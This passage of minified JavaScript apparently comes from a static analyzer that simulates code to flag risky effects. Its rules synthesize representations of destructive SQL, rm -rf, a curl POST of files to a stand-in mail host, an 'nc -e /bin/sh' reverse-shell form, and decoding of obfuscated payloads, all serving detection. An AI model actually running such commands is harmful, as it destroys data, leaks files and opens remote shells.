blocks==="indent"?t.collector.imitations.get(u):void 0;f!==u&&s.set(f,m??s.get(u)??w.name(u)),p&&(t.at+=1)}t.at=r}function ye(t,e=new Map){return s=>{let r=e.get(s);if(r!==void 0)return r;let n=t(s);return e.set(s,n),n}}var Go={args:[],environment:{},variables:new Map},{forms:Sl}=S,Uv=16,jt=({text:t,glob:e})=>({kind:"text",of:[t],glob:e}),Op=({input:t=""})=>t.replace(/\n$/,"").
split(`
`).slice(0,Uv);function or(t){if(t.input!==void 0)return w.text(...new Set([t.input.replace(/\n$/,""),...Op(t)]))}function Np(t,{args:e,environment:s,input:r=""},n){
let o=(a,l)=>a.some(c=>c.text!==""&&Ie(c))&&l.test(t);return(n!=="awk"||t.includes("ARGV"))&&o(e,Sl.uses_arguments)?!0:o(Object.values(s),Sl.uses_environment)||
o([R(r)],Sl.uses_input)}function Lp(t,e,s){let r=s.args.map(jt),n=s.script===void 0?[]:[w.text(s.script)],o=w.list([n[0]??w.text("-"),...r]),i=new Map([["HOME",
w.text("~")]]).set(`${"\uFFFC"}0`,w.variable());for(let[c,d]of Object.entries(s.environment))i.set(c,jt(d));let a=or(s),l={args:w.list(r),argv:o,"node-argv":w.list(
[w.text("node"),...n,...r]),"joined-args":w.text(s.args.map(c=>c.text).join(" ")),environment:{kind:"map",entries:i},server:{kind:"map",entries:new Map([...i,["\
argv",o]])},text:a,peer:w.received(),lines:a&&w.list(Op(s).map(c=>w.text(c)))};for(let[c,d]of Object.entries(t)){let u=l[d];if(!u)continue;e.declare(c,u);let p=u.
kind==="list"?u.items.entries():[];for(let[f,m]of u.kind==="map"?u.entries:p)e.declare(`${c}.${f}`,m)}}var{codeWords:ir,forms:ar}=S,Vv=8;function Dr(t,e,s=0){s>Vv&&e.fail("too-deep","SQL in SQL is nested too deeply");let r=Bv(t);for(let[n,o]of r.entries()){if(!e.
step(1+o.length))return;let[i]=o;/^(?:ROLLBACK|DISCARD|ABORT)$/i.test(i?.text??"")&&e.temporaryTables.clear(),!(e.signs.has("rolled-back")&&/^(?:DELETE|UPDATE)$/i.
test(i?.text??""))&&(i?.kind==="shell"?e.runShellLine(w.text(i.text)):Hv(new Cl(o,e,s,r.slice(0,n))))}}var Cl=class{constructor(e,s,r,n){this.tokens=e;this.collector=
s;this.depth=r;this.earlier=n;this.words=e.map(o=>o.kind==="word"?o.text.toUpperCase():"")}tokens;collector;depth;earlier;words;report(...e){let[s="",r=""]=e,{temporaryTables:n}=this.
collector,o=!this.tokens.some(({text:i})=>i===",");o&&/^pg_temp\./i.test(r)||(!o||!ar.table_deed.test(s)||!n.has(r)?this.collector.addInvocation("sql",e):s==="d\
rop-table"&&n.delete(r))}word(e){return this.words[e]??""}name(e){let s=this.word(e)==="TABLE"?e+1:e;for(;ir.sql_fillers.has(this.word(s));)s+=1;let r=this.tokens[s]?.
text??"";for(;this.tokens[s+1]?.text==="."&&this.tokens[s+2];s+=2)r+=`.${this.tokens[s+2].text}`;return r}valueAfter(e){let s=e<0?void 0:this.tokens.slice(e+1,e+
6).find(({kind:r})=>r==="text");return s&&w.text(s.text)}isUnlimited(e){let s=this.words.indexOf("WHERE",e);if(s<0)return!this.words.includes("LIMIT",e);let r=this.
tokens.slice(s+1).map(({text:n})=>n);return r.join(" ").length<200&&ar.true_condition.test(r.join(" ").trim())}empties(e){let s=this.tokens.map(({text:r})=>r);return ar.
no_rows.test(s.join(" "))&&s.indexOf(s[e])!==s.lastIndexOf(s[e])}formatText(e){let s=[];for(let{kind:r,text:n}of this.tokens.slice(e+1))r==="mark"&&n===","?s.push(
""):s.length>0&&r==="text"&&s.push(`${s.pop()}${n}`);return this.tokens[e].text.replace(/%\d*\$?[sIL]/g,()=>s.shift()||"x")}readInner(e){let s=this.tokens.findIndex(
({kind:c},d)=>d>e&&c==="text"),r=this.words.findLast(c=>c!==""),n=this.earlier.findLast(c=>c.some(({text:d})=>d.toUpperCase()===r))??[],o=this.tokens[s+1]?.text.
startsWith("|")?"\uFFFC":"",i=s===-1?n:[this.tokens[s]],a=this.word(e+1)==="FORMAT"&&s!==-1,l=i.map(({kind:c,text:d})=>c==="text"?d:"").join("");Dr(a?this.formatText(
s):l+o,this.collector,this.depth+1)}};function Hv(t){let{words:e,tokens:s,collector:r}=t;if(!(e[0]==="EXPLAIN"&&!e.some(n=>/^ANALY[SZ]E$/.test(n))))for(let[n,o]of e.
entries()){let i=s[n-1],a=i?.kind==="mark"&&i.text===(/^(?:EXPLAIN|MATCH)$/.test(e[0])?")":"(");if(n===0||a||ir.sql_leads.has(e[n-1])){if(!r.step(Math.ceil((e.length-
n)/16)))return;Object.hasOwn(Dp,o)?Dp[o](t,n):ir.sql_code.has(o)?t.readInner(n):El(t,n)}/^(?:XP_CMDSHELL|SYS_EXEC|SYS_EVAL)$/.test(o)?r.runShellLine(t.valueAfter(
n)):ir.sql_reads.has(o)?r.readFile(t.valueAfter(n)):ir.sql_writes.has(o)&&r.recordWrite(t.valueAfter(n))}}function El(t,e){let s=S.sqlStatements.find(({words:o})=>o.
every((i,a)=>i.includes(t.word(e+a))));if(!s)return;let r=t.words.slice(e+1,e+12).join(" "),n=s.name===void 0?[]:[t.name(e+s.name)];t.report(s.does,...s.all?[r.
trim()]:n)}var Dp={CREATE:(t,e)=>{let s=t.words.findIndex((o,i)=>i>e&&ar.temporary.test(o)),r=t.words.indexOf("TABLE",e)+1;t.word(e+2)==="REPLACE"&&t.empties(r)&&
t.report("truncate",t.name(r)),!t.words.includes("ON")&&t.collector.source==="sql"&&s>0&&s<e+3&&t.word(s+1)==="TABLE"?t.collector.temporaryTables.add(t.name(s+2)):
El(t,e)},DROP:(t,e)=>{let{words:s,tokens:r}=t,n=s.slice(e+1,e+5).find(a=>ir.sql_kinds.has(a));if(!n)return;let i=`drop-${ar.temporary.test(t.word(e+1))||r[e+2]?.
text.startsWith("#")?"temporary-":""}${n.toLowerCase()}`;t.report(i,t.name(s.indexOf(n,e)+1))},DELETE:(t,e)=>{let s=Math.max(e,t.words.indexOf("FROM",e)),r=t.words.
indexOf("MATCH")>=0,o=!(r&&/(?:\( ?|\w )(?<!\bCALL )\{/.test(t.tokens.map(({text:i})=>i).join(" ")))&&t.isUnlimited(r?0:e);t.report(o?"delete-all":"delete-some",
t.name(s+1))},UPDATE:(t,e)=>{t.words.includes("SET",e)&&t.report(t.isUnlimited(e)?"update-all":"update-some",t.name(e+1))},ALTER:(t,e)=>{let{words:s}=t;for(let n=s.
indexOf("DROP",e+2);n>0;n=s.indexOf("DROP",n+1)){let o=ir.sql_kinds.has(t.word(n+1)),i=o?s[n+1].toLowerCase():"column";t.report(`drop-${i}`,t.name(e+2),t.name(n+
(o?2:1)))}let r=s.findIndex((n,o)=>/^(?:DELETE|UPDATE|TRUNCATE)$/.test(n)&&s[o-1]!=="ON");r>0&&t.isUnlimited(r)&&t.report("delete-all",t.name(e+2)),El(t,e)},COPY:(t,e)=>{
let{words:s,collector:r}=t,n=i=>t.valueAfter(s.indexOf(i,e)),o=s.indexOf("TO",e);s.includes("PROGRAM",e)?r.runShellLine(n("PROGRAM")):o>0&&t.empties(o+1)?r.addInvocation(
"truncate",["-s","0",n("TO")]):n("TO")?r.recordWrite(n("TO")):n("FROM")&&r.readFile(n("FROM"))},CALL:({words:t,tokens:e,collector:s,depth:r})=>{let n=e.flatMap(
({kind:o,text:i})=>o==="text"?[i]:[]);t.includes("PERIODIC")&&Dr(n.slice(0,2).join(" "),s,r+1)}};function Bv(t){let e=[[]],s=(r,n)=>e.at(-1).push({kind:r,text:n});
for(let r=0;r<t.length;){let o=t[r]==="\\"||e.at(-1).length===0?Qe(ar.client_command,t,r):void 0,i=o??Qe(ar.sql_token,t,r),{shell:a,piped:l,program:c,quote:d,quoted:u,
name:p,text:f,word:m,mark:h}=i.groups,g=a??l??c?.replaceAll("''","'"),y=d==="'"||d==='"'&&/[\s/]/.test(u),x=m!==void 0&&/^go$/i.test(m)&&t[r-1]===`
`;g!==void 0?e.push([{kind:"shell",text:g}],[]):o||h===";"||x?e.push([]):u!==void 0?s(y?"text":"word",u.replaceAll(d+d,d)):f!==void 0?s("text",f):h!==void 0?s("\
mark",h):(m!==void 0||p!==void 0)&&s("word",m??p),r+=i[0].length}return e.filter(r=>r.length>0)}var{codeWords:Mp,forms:zv}=S,Ko=w.glob(w.text("**"));function Pl({collector:t},e,s=I,r=[]){let[n=I,...o]=s.kind==="made"?s.args:[s],i=n.kind==="content"&&!n.of&&
n.from.find(({program:m})=>m==="curl"),a=i?i.args.at(-1).text:n,l=[...r,...o].filter(m=>m!==void 0),c=V.content(l),d=c?[...c.files.map(m=>`@${m}`),...c.from.slice(
0,1).map(()=>"@-")]:l.map(v.firstText);if(t.imitates("requests"))return I;let u=l.length>0&&e==="GET"?"POST":e,p=[...Mp.sending_verbs.has(u)||u==="\uFFFC"?["-X",
u]:[],...d.flatMap(m=>["-d",m]),a],f=c?.from.length?c:void 0;return w.content([t.addInvocation("curl",p,t.createInput(f))])}function Fp({collector:t},e,s=I,r){let[
n=I,o]=r?.kind==="made"?r.args:v.items(r);t.addInvocation(e,[n,o],t.createInput(V.content([s])))}function Yo({collector:t},[e,...s],r){let n=r&&V.content([r]);return n&&
e&&t.addInvocation(v.firstText(e),s,t.createInput(n)),n!==void 0&&e!==void 0}function Rl(t,e,s,r){let n=V.root(e),o=n?.kind==="content"?n.from.at(-1):void 0;if(o&&
zv.shell_program.test(o.program)&&o.input===void 0)return Yo(t,[w.text(o.program)],s);if(e?.kind!=="made")return!1;let{by:i,args:a}=e;return i==="written"||i===
"appended"?t.collector.recordWrite(a[0],s,r||i==="appended"):i==="request"?Pl(t,"POST",a[0],[s]):(i==="connection"||i==="client")&&Fp(t,"nc",s,e),!0}var Il={run:({
collector:t,named:e,receiver:s},[,...r],[n])=>{if(t.source==="ruby"&&v.word(e.get("noop"))==="true"||Mp.file_programs.has(n)&&t.signs.has("dry-files")||(n==="sq\
l"||n==="django-admin"&&t.signs.has("own-settings"))&&t.isInMemory)return;let a=n==="git"?V.root(s):void 0,[l]=O.made(a,"git")?a.args:[],d=l!==void 0&&v.texts(l).
every(p=>K(p,"passing-databases"))?{folder:R(v.firstText(l))}:{},u=n==="django-admin"?v.texts(r[0]).map(p=>[w.text(p)]):void 0;for(let p of u??[Tl(r)])t.addInvocation(
n,p,d)},chmod:({collector:t},[e=I,s])=>{let r=s?.kind==="choice"?s.values:[],n=["text","number"].map(a=>r.find(({kind:l})=>l===a)).find(Boolean)??s;if(r.some(a=>a.
kind==="number"&&(a.number&3072)!==0))return void t.addInvocation("chmod",["u+s",e]);let i=n?.kind==="number"?n.number.toString(8):v.firstText(n).replace(/^0o?/,
"");t.addInvocation("chmod",[i,e])},kill:({collector:t},[e=I,s=w.text("TERM")],r)=>{let n=r.includes("group")?w.joined([w.text("-"),e]):e,i=t.signs.has("lists-p\
rocesses")&&!O.known(e)||!t.choosesProcesses&&O.made(V.root(e),"any-process"),a=`-${v.lastName(v.word(s)).replace(/^(?:SIG|:)/,"")}`;if(t.addInvocation(i?"pkill":
"kill",[a,n]),!(i||!O.made(V.root(e),"any-process")))for(let l of t.processNames)t.addInvocation("pkill",[a,l])},write:({collector:t},[e,s,r])=>{t.recordWrite(e,
s,r?.kind==="name"||/^(?:8|append)$/.test(v.firstText(r)))},transfer:(t,[,e,s],[r])=>Fp(t,r,e,s),"docker-run":({collector:t,args:[e,s],named:r})=>{let n=r.get("\
volumes"),i=(n?.kind==="map"?[...n.entries.keys()]:[]).flatMap(a=>["-v",`${a}:/mounted`]);v.word(r.get("privileged"))==="True"&&i.push("--privileged"),t.addInvocation(
"docker",["run",...i,e,...s?[s]:[]])},"sends-files":({collector:t,args:e})=>{let s=v.parts(e).filter(({key:r})=>/^(?:path|filename|file)$/.test(r));for(let r of s.
flatMap(({value:n})=>v.texts(n)))t.addInvocation("curl",["-X","POST","-d",`@${r}`,"https://mail.example"])},emit:({collector:t,state:e},[s,r])=>{for(let n of t.
listeners.get(v.firstText(s))??[])Ve(e,n,v.items(r))},print:({args:t,named:e,collector:s},r,[n])=>{let o=(l,c)=>e.has(l)?v.firstText(e.get(l)):c,[i,a]=[n?"":" ",
n==="text"?"":`
`];e.has("file")||s.recordPrint(t,o("sep",i),o("end",a))}},ql=(t,[e=I,s],r)=>{let[,n]=/^\s*\|([\s\S]*)$/.exec(v.firstText(e))??[];if(n!==void 0)return t.collector.
runShellLine(w.text(n));let o=s===void 0?"r":v.firstText(s);return v.parts(s?[s]:[]).some(({value:l})=>K(v.word(l),"writing-flags"))||s?.kind==="unknown"&&r.includes(
"flags")||/[waxc+]/.test(o)?(t.collector.recordWrite(e,void 0,o.includes("a")),w.derived(o.includes("a")?"appended":"written",e)):Al(t,e)},Al=(t,e)=>/^(?:https?|ftp):/i.
test(v.firstText(e))?Pl(t,"GET",e):t.collector.readFile(e),jp=({chosen:t},e)=>t??(e==="below"?Ko:w.text(os)),Tl=t=>t.map(e=>e??I),Wp=t=>v.flat(t.filter(e=>e!==void 0)),
$n={read:(t,[e])=>Al(t,e),open:ql,shell:(t,[e,s])=>{let{collector:r}=t,n=v.firstText(e),o=/^[\w./ -]+$/.test(n)?n.split(" ").map(i=>w.text(i)):[];return Yo(t,e?.
kind==="list"?e.items:o,s),e?.kind==="list"?w.merged((e.lists??[e.items]).map(i=>r.runProgram(i))):r.runShellLine(e)},program:({collector:t},e)=>t.runProgram(v.
flat(Tl(e))),command:({collector:t},[e])=>{let s=v.items(e);return s.length>1?t.runProgram(s):t.runShellLine(s[0])},execute:({collector:t},[e=I,s])=>{let r=v.items(
s),[n]=r,o=n?.kind==="list"?n.items:r,i=r.length===1&&n?.kind!=="list"&&n?.kind!=="text";return t.runProgram([e,...i?[I]:o.slice(1)])},eval:({state:t},[e])=>vn(
t,e),include:(t,[e])=>vn(t.state,Al(t,e)),request:(t,[e,s,...r])=>Pl(t,v.firstText(e).toUpperCase(),s,r),"open-request":(t,e,s)=>{let r=$n.request(t,e,s);return/^get$/i.
test(v.firstText(e[0]))?r:w.derived("request",e[1]??I)},connect:({receiver:t,collector:e},s)=>{let r=Wp(s);return O.made(t,"ssh")||e.addInvocation("nc",[r[0]??I,
r[1]]),w.derived("connection",...r.slice(0,2))},send:(t,[e,s],r)=>Rl(t,e,s,r.includes("append"))?I:void 0,sql:({collector:t,receiver:e},[s])=>{if(t.isInMemory||
t.isMocked)return I;O.made(s,"whole-update")&&t.addInvocation("sql",["update-all","rows"]),O.made(s,"pending-delete","whole")&&t.addInvocation("sql",["delete-al\
l","rows"]);let r=v.parts([s??I]).flatMap(({value:o})=>v.texts(o)).filter(o=>/\w\s/.test(o));if(r.length===0)return;if(!(O.made(e,"database")?v.texts(e.args[0]):
[""]).every(o=>K(o,"passing-databases"))||t.signs.has("attaches"))for(let o of r)Dr(o,t);return I},load:({state:t},[e])=>e?.kind==="content"&&e.from.length>0?vn(
t,e):void 0,input:({collector:t})=>or(t.input),environment:({collector:t},[e,s])=>{let r=v.firstText(e),{environment:n}=t.input;if(Object.hasOwn(n,r))return jt(
n[r]);if(r==="HOME")return w.text("~");let o=w.variable(e?r:"");return s?{...o,of:["\uFFFC",...v.texts(s)]}:o},value:(t,[e])=>e??I,entries:(t,e,[s])=>w.list([s===
void 0?I:w.derived(s)]),name:(t,e,[s])=>w.name(s),"mock-class":({state:t},[e])=>yt(t,w.derived("mock"),w.text(`class ${v.word(e)}`)),received:()=>w.received(),secret:({
collector:t})=>w.content([t.createInvocation("aws",["secretsmanager","get-secret-value"])]),listen:({collector:t,state:e},[s,r,n])=>{let o=v.firstText(r);n&&t.listeners.
set(o,[...t.listeners.get(o)??[],n]);let i=s?.kind==="list"?s.items[0]:s,l=(i?.kind==="unknown"||O.made(i,"connection","client","peer"))&&/^(?:data|message)$/.test(
o)?w.received():i;return(l?.kind==="content"||l?.kind==="made")&&Ve(e,n??I,[l,l]),s},listed:(t,[e])=>V.client(e)?w.list([e]):e,module:({collector:t,state:e},[s])=>{
if(s?.kind==="content")return vn(e,s);let r=v.firstText(s).replace(/^node:/,"");return t.modules.add(r),/^[~/].*\.json$/.test(r)&&t.readFile(s),w.name(r)},made:({
args:t,collector:e},[,...s],[r])=>{let n=s.length>0||r==="mock"?s.filter(o=>o!==void 0):t;return r==="database"&&v.texts(n[0]).some(o=>o.startsWith("~"))&&e.readFile(
n[0]),r==="database"&&e.openedDatabases.push(v.texts(n[0]).every(o=>K(o,"passing-databases"))),w.derived(r,...n)},glob:(t,e)=>{let s=is(Tl(e));return s.kind==="\
text"?w.glob(s):I},join:(t,e)=>{let s=Wp(e);return s.length>0?is(s):w.text(".")},folder:({collector:t},[e=w.text(".")],[,s])=>{let r=[e,jp(t,s)];return w.list([
s==="dirent"?w.derived(s,...r):is(r)])},names:({collector:t},[e])=>w.list([e===void 0||O.known(e)?jp(t):I])};var Up=t=>v.flat([t]).filter(e=>!v.firstText(e).startsWith("!")),Qo=t=>t!==void 0&&!(t.kind==="name"&&t.path==="false");function Vp({named:t,state:e}){let s=[...t].
filter(([o])=>/side_effect|wraps/.test(o)).map(([,o])=>o),r=[...t].filter(([o])=>!K(o,"mock-options")).map(([,o])=>o),n=v.parts(r).map(({value:o})=>o);return s.
every(o=>bn(e,o))?w.derived("mock",...n.filter(o=>!O.mock(o))):I}var Xo={"attach-shell":({collector:{invocations:t},collector:e},[s=I])=>{let r=t.find(({program:n})=>n===
"nc");r&&!t.some(({args:n})=>n[0]?.text==="-e")&&e.addInvocation("nc",["-e",v.flat([s])[0],...r.args.map(n=>n.text)])},attribute:({state:t},[e=I,s])=>w.choice(v.
texts(s).map(r=>t.getMember(e,r))),method:(t,e)=>w.derived("bound",Xo.attribute(t,e,[])??I,w.list([])),walk:({collector:{chosen:t}},[e=w.text(".")])=>{let s=!t&&
e.kind==="text",r=w.list([s?Ko:t??I]);return w.list([w.list([s?e:is([e,w.text("\uFFFC")]),r,r])])},"remove-matches":({collector:t},[e=I,s])=>{for(let r of Qo(s)?
[]:Up(e))t.addInvocation("rm",["-rf",w.glob(r)]);return I},"declare-option":({collector:t,args:e},[s=I])=>{let r=t.input.args,n=e.map(v.firstText),o=r.find((a,l)=>n.
includes(r[l-1]?.text??"")),i=o?jt(o):w.merged([s,...r.map(()=>I)]);for(let a of n)t.options.set(a.replace(/^-+/,"").replaceAll("-","_"),i);return I},mock:Vp,imitate:({
state:t},[e,s,r=w.derived("mock")])=>e?.kind==="text"&&s?yt(t,s,e):e?yt(t,r,e,s):r,"end-imitation":({state:t},[e])=>yt(t,I,e),patcher:(t,[e,s,r],[,n])=>{let[o,i]=n===
"$1:attribute"?[`.${v.firstText(s)}`,r]:["",s],a=v.word(t.named.get("new_callable")??w.text("Mock")),l=i===void 0||v.word(i).endsWith("DEFAULT"),c=/Mock$/.test(
a)?Vp(t):I,d=l?c:i;return e&&Ie(R(v.word(e)+o))&&!O.mock(e)&&bn(t.state,d)?w.derived("patcher",w.text(v.word(e)+o),d):void 0},"start-patcher":({receiver:t,state:e})=>O.
made(t,"patcher")?yt(e,t.args[1],t.args[0]):void 0,spy:({args:t,state:e},[s,r,n],[,,,o])=>{if(s?.kind!=="name"||s.self)return;let i=w.text(`${s.path}.${v.firstText(
r)}`);return(o??(t.length===3&&n?.kind==="function"))&&yt(e,n??w.derived("mock"),i),w.derived("spy",i)},"answer-spy":({receiver:t,state:e},[s],[,r])=>{let n=V.root(
t);if(!O.made(n,"spy"))return;let o=w.derived("mock",...s?[s]:[]);return yt(e,r===void 0&&s?s:o,n.args[0]),n},options:({collector:t})=>({kind:"map",entries:t.options}),
globs:(t,[e=I,s])=>w.list(Up(e).map(r=>w.glob(s?is([s,r]):r))),"temporary-pair":()=>{let t=w.text(`/tmp/${"\uFFFC"}`);return w.list([w.derived("written",t),t])},
"new-folder":({named:t,args:[e]})=>{let[s]=v.texts(t.get("dir")??e),r=s!==void 0&&!s.startsWith("/tmp")&&/[./~]/.test(s);return w.text(r?`${s}${"\uFFFC"}`:`/tmp\
/tmp.${"\uFFFC"}`)},"request-over":(t,[e,s=I,...r],n)=>{let o=t.receiver?.kind==="made"?[s,...v.flat(t.receiver.args)]:[s],i=o.find(l=>/^https?:/.test(v.firstText(
l)))??o[1]??I,a=i===s||o.length===1?s:w.joined([i,s]);return $n.request(t,[e,a,r.find(l=>l)],n)},entry:(t,[e,s])=>e?.kind==="map"?e.entries.get(v.firstText(s)):
void 0,spawn:(t,[e=I,s,r,n])=>{let{collector:o}=t;Yo(t,[e,...v.items(s)],n);let i=s?.kind==="list"||s?.kind==="unknown"?v.flat([s]):[],a=(s?.kind==="list"?s.lists:
void 0)??[i];return Qo(r)?o.runShellLine(w.text([e,...i].flatMap(v.texts).join(" "))):w.merged(a.map(l=>o.runProgram([e,...l])))},"join-parts":({args:t})=>w.joined(
t.filter(v.firstText),"/"),pipe:(t,[e,s=I])=>(O.made(s,"connection","client")&&e?.kind==="content"&&e.from.length>0?Xo["attach-shell"](t,[w.text("/bin/sh")],[]):
Rl(t,s,e,!0),s),then:({receiver:t,args:[e],state:s})=>e?.kind==="function"||e?.kind==="name"&&!e.self?Ve(s,e,[t??I]):t,take:({collector:{input:t}},[e])=>w.merged(
e?.kind==="list"?e.items:t.args.map(jt)),"open-perl":(t,[e,s=I])=>{let[,r="<",n="",o]=/^\s*(\+?[<>]{1,2}|\|-?|-\|)?\s*([\s\S]*?)\s*(\|?)\s*$/.exec(v.firstText(e))??
[],i=v.flat(v.elements(s)),[a=w.text(n)]=i;if(r.includes("|")||o&&i.length===0)return i.length>1?t.collector.runProgram(i):t.collector.runShellLine(a);let l=r.includes(
">")?"w":"r";return ql(t,[a,w.text(r===">>"?"a":l)],[])},find:({args:[t,...e],collector:s,state:r})=>{let n=t?.kind==="map"?t.entries.get("wanted"):t;if(n?.kind!==
"function")return;n.definition.called=!0;let o=[{name:"$_"},{name:"$File.Find.name"}],i={...n,definition:{...n.definition,parameters:o}};for(let a of e.flatMap(
v.texts)){let l=is([w.text(a),s.chosen??Ko]);Ve(r,i,[l,l])}return I}};var Gv=65536;function Bp(t){let e=t.trim();return e.length>Gv||!/^[[{][\s\S]*[\]}]$/.test(e)?!1:Hp(e)||e.split(`
`).every(s=>s.trim()===""||Hp(s))}var Hp=t=>typeof(_n(t)??void 0)=="object";function _n(t){try{return JSON.parse(t)}catch{return}}function zp(t){let e=t.slice(0,
2e3);return Object.entries(S.textForms).find(([,s])=>s.test(e))?.[0]}var Gp=al(require("node:querystring"),1);var Kv="ABCDEFGHIJKLMNOPQRSTUVWXYZ234567";function Yv(t){let s=Array.from(t.replace(/=+$/,""),r=>Kv.indexOf(r).toString(2).padStart(5,"0")).join("").match(/[01]{8}/g)??
[];return Buffer.from(s.map(r=>Number.parseInt(r,2))).toString("utf8")}var jr={base32:Yv,base64:t=>Buffer.from(t,"base64").toString("utf8"),hex:t=>Buffer.from(t.
replace(/\s/g,""),"hex").toString("utf8"),unread:()=>"\uFFFC\uFFFB",url:Gp.default.unescape,reverse:t=>Array.from(t).reverse().join(""),lower:t=>t.toLowerCase(),
upper:t=>t.toUpperCase(),trim:t=>t.trim(),"trim-end":t=>t.trimEnd(),"trim-start":t=>t.trimStart(),home:t=>t.replace(/^\$\{?HOME\}?/,"~")};var Qv=64,Xv=/^(base64|hex)(?:url)?$/,Jv=/^(?:rot13|zlib|zip|bz2|uu)$/,Ol=t=>w.joined(t.map(e=>{let s=v.number(e)??-1;return w.text(s>=0&&s<=1114111?String.fromCodePoint(
s):"\uFFFC")}));function Nl(t){return typeof t=="string"?w.text(t):typeof t=="number"?w.number(t):Array.isArray(t)?w.list(t.map(Nl)):t===null||typeof t!="object"?
I:{kind:"map",entries:new Map(Object.entries(t).map(([e,s])=>[e,Nl(s)]))}}var Kp={fold:(t,[,e=I],[s])=>Et(e,jr[s]),characters:(t,[e])=>e?.kind==="list"?Ol(e.items):
e,"parse-json":(t,[e])=>{let s=O.known(e)?_n(v.firstText(e)):void 0;return s===void 0?void 0:Nl(s)},dirname:(t,[e])=>e&&Lo(e),pairs:(t,[e])=>e?.kind==="map"?w.list(
[...e.entries].map(([s,r])=>w.list([w.text(s),r]))):void 0,numbered:(t,[e=I])=>w.list(v.elements(e).map(s=>w.list([I,s]))),rows:({args:t})=>{let e=t.map(v.elements),
[s=[]]=[...e].sort((r,n)=>n.length-r.length);return w.list(s.map((r,n)=>w.list(e.map(o=>o[n]??I))))},flat:({args:t},[e])=>w.list((e?v.elements(e):t).flatMap(s=>v.
elements(s))),keys:(t,[e])=>e?.kind==="map"?w.list(v.elements(e)):I,"from-pairs":({named:t},[e])=>{let s=v.items(e).map(v.elements),r=s.map(([n,o=I])=>[v.firstText(
n),o]);return e&&s.length===0?void 0:{kind:"map",entries:new Map([...t,...r])}},append:(t,[e,s])=>(e?.kind==="list"&&e.items.length<Qv&&e.items.push(...v.flat(v.
items(s))),e),values:(t,[e])=>e?.kind==="map"?w.list([...e.entries.values()]):void 0,decode:(t,[e=I,s])=>{if(e.kind==="list")return Ol(e.items);let r=v.firstText(
s).toLowerCase().replace(/[-_]/g,""),n=Jv.test(r)?"unread":Xv.exec(r)?.[1];return n===void 0?e:Et(e,jr[n])},"code-point":(t,[e,s])=>w.number(O.known(e)?v.firstText(
e).codePointAt(v.number(s)??0):void 0),integer:(t,[e,s])=>w.number(Number.parseInt(v.firstText(e),s?Number(v.firstText(s)):10)),reverse:(t,[e])=>e&&gn(e,[void 0,
void 0,w.number(-1)]),"join-texts":(t,[e,s])=>{let[r=I,n]=e?.kind==="list"?[e,s]:[s,e];if(!(e?.kind!=="list"&&e?.kind!=="text"))return w.joined(v.flat(v.elements(
r)),n&&v.firstText(n))},format:({named:t},[e=I,s=I])=>ul(e,v.elements(s),t),map:({state:t},[e,s])=>{let r=s&&v.elements(s);return e&&r&&w.list(r.map(n=>Ve(t,e,[
n])))},split:(t,[e,s])=>{if(e?.kind!=="text"||![e,s??e].every(O.known))return;let r=s&&v.firstText(s),n=v.texts(e).map(o=>{let i=r===void 0?o.match(/\S+/g)??[]:
o.split(r);return w.list(i.map(a=>w.text(a)))});return w.merged(n)},replace:(t,[e=I,...s])=>{let[r="\uFFFC",n=""]=s.map(o=>o&&v.firstText(o));return Et(e,o=>r.includes(
"\uFFFC")?"\uFFFC":o.replaceAll(r,n))},elements:(t,[e=I])=>w.list(v.elements(e)),concatenate:(t,[e,s=I])=>e?.kind==="list"?w.list([...e.items,...v.elements(s)]):
e?.kind==="text"?w.joined([e,...v.elements(s)]):void 0,pack:(t,[e,s])=>{let[r=I]=v.items(s);return v.firstText(e).startsWith("H")?Et(r,jr.hex):/^[cCU]/.test(v.firstText(
e))?Ol(v.items(s)):void 0},slice:(t,[e,s,r])=>e&&gn(e,[s,r]),at:(t,[e,s])=>s?.kind==="list"?s.items.at(Number(v.firstText(e))):void 0,"any-of":(t,[e=I])=>w.merged(
v.flat([e])),lines:(t,[e])=>e?.kind==="list"?w.joined(e.items,`
`):e,invoke:({state:t},[e,s=I])=>e&&Ve(t,e,v.elements(s)),message:({state:t},[e,s,r=I])=>{let[n,o]=e?.kind==="name"?[`${e.path}.`,e.self]:["",e];return s?.kind===
"text"&&O.known(s)?Ve(t,w.name(n+v.firstText(s),o),v.elements(r)):void 0}};var Zv={...Il,...$n,...Kp,...Xo};function ex(t,e,s){let r=e===void 0?void 0:t.args[e];return[...r===void 0||r.kind==="map"?s.map(o=>at(t,o)):[],r].find(o=>o!==void 0)}
function tx(t){let[,e,s,r,n]=/^\$(self|owner|origin|all|last|\d*)(\.\.)?((?::\w+)*)(?:=(.*))?$/.exec(t)??[];if(e===void 0)return()=>w.text(t);if(e==="self")return({
receiver:a})=>a;if(e==="owner")return a=>w.text(Jo(a));if(e==="origin")return({receiver:a})=>a?.kind==="made"?a.args[0]:void 0;if(e==="all")return({args:a})=>w.
list(v.flat(a));if(e==="last")return({args:a})=>a.at(-1);let o=e===""?void 0:Number(e);if(s)return({args:a})=>w.list(a.slice(o));let i=r.split(":").slice(1);return a=>ex(
a,o,i)??(n===void 0?void 0:w.text(n))}var Jo=({receiver:t})=>t?.kind==="name"?t.path:"\uFFFC",sx={none:({args:t,named:e})=>t.length===0&&e.size===0,args:({args:t},e)=>t.
length>=Number(e),arg:({args:[t]},e)=>t?.kind===e,says:({args:t,named:e},s)=>v.parts([...t,...e.values()]).some(({value:r})=>new RegExp(s).test(v.word(r))),owner:(t,e)=>new RegExp(
e).test(Jo(t)),gets:({args:t},e)=>v.parts(t).some(({value:s})=>O.made(s,e)),option:(t,e="")=>{let[s="",r]=e.split("="),n=at(t,s);return r===void 0?Qo(n):v.word(
n)===r||r==="{}"&&Yp(n)},kept:t=>!/cache|log|trac|schedul|queue|set|map|mock|fake/i.test(Jo(t))&&!t.collector.isMocked,lasting:({receiver:t})=>O.made(t,"store")&&
t.args.flatMap(v.texts).some(e=>!e.startsWith("\uFFFC")&&!K(e,"passing-databases")),unset:({collector:t},e)=>!Object.hasOwn(t.input.environment,e),chosen:({collector:t})=>t.
choosesProcesses,sign:({collector:t},e)=>t.signs.has(e),stored:({collector:t})=>t.signs.has("key-store")&&!t.isMocked,"no-sign":({collector:t},e)=>!t.signs.has(
e),empty:({args:[t]})=>t===void 0||Yp(t),git:t=>O.made(V.root(t.receiver),"git")||Qp(t,"name","git"),real:t=>!O.mock(at(t,"fs"))&&!v.word(at(t,"fs")).startsWith(
"memfs"),database:t=>/^db\b|collection|\bdb$/i.test(Jo(t))},Yp=t=>t?.kind==="map"&&t.entries.size===0||t?.kind==="list"&&t.items.length===0,Qp=({receiver:t},e,s)=>t?.
